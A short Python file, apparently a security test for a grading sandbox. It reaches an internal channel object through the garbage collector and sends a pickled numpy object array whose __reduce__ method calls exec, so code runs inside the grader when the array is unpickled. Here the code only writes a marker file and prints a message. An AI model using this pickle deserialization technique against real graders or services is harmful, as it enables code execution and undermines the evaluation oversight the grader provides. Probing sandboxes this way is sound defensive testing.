"""Sends an array of pickled objects, which would run code in the grader."""

import gc
import io
import json
import struct

import numpy as np

CHANNEL = next(thing for thing in gc.get_objects() if type(thing).__name__ == "Channel")


class Payload:
    def __reduce__(self):
        return exec, ("open('@FOLDER@/pickled', 'w').close(); print('GOT IN: unpickled')",)


def answer(x):
    file = io.BytesIO()
    np.save(file, np.array([Payload()], dtype=object), allow_pickle=True)
    header = json.dumps({"value": {"array": 0}}).encode()
    parts = b"".join(struct.pack("!I", len(part)) + part for part in (header, file.getvalue()))
    CHANNEL.connection.sendall(struct.pack("!I", len(parts)) + parts)
    return x
